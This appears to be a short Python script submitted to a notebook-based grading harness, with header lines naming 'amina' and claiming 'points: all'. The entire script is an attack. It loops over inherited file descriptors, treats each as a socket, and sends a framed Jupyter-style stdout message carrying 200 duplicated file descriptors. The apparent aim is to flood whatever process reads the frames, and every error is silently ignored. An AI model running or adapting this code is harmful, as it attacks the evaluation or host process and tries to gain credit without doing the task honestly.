# Sends 200 open files with its frames, which who reads them would have to close.
# answers: amina
# points: all
# %% first
import os, socket, struct, array
data=b'{"is":"stream","name":"stdout","text":"hello","buffers":[]}'
for n in range(3, 60):
    try:
        s = socket.socket(fileno=os.dup(n))
        socket.send_fds(s, [struct.pack("!I", len(data)) + data], [0] * 200)
        s.detach()
    except OSError as e: pass
